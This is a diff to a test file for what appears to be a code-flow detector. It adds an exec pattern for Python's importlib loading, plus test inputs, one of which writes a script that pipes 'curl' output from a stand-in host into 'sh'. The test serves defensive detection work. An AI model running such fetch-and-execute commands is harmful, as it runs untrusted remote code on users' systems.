@@ -19,10 +19,23 @@ const stores = {
     { pattern: 'import', tag: 'exec' },
     { pattern: 'bash', tag: 'exec' },
     { pattern: 'sh', tag: 'exec' },
+    { pattern: 'importlib.util.spec_from_file_location', tag: 'exec' },
   ],
 }
 
 it.each([
+  [
+    'a program that a group of commands writes line by line',
+    'a.sh',
+    "{\n  echo '#!/bin/sh'\n  printf 'curl -s %s | sh\\n' https://a.example/x\n} > \"$HOME/job.sh\"",
+    'curl(https://a.example/x) -> sh via a.sh:5',
+  ],
+  [
+    'a module that is fetched, written and loaded by its path',
+    'a.py',
+    'import importlib.util, pathlib\np = pathlib.Path("/tmp/secret.py")\np.write_bytes(p.read_bytes())\nspec = importlib.util.spec_from_file_location("k", p)',
+    'pathlib.Path.read_bytes(/tmp/secret.py) -> importlib.util.spec_from_file_location via a.py:3 a.py:4',
+  ],
   [
     'a copy that another library opens',
     'a.py',
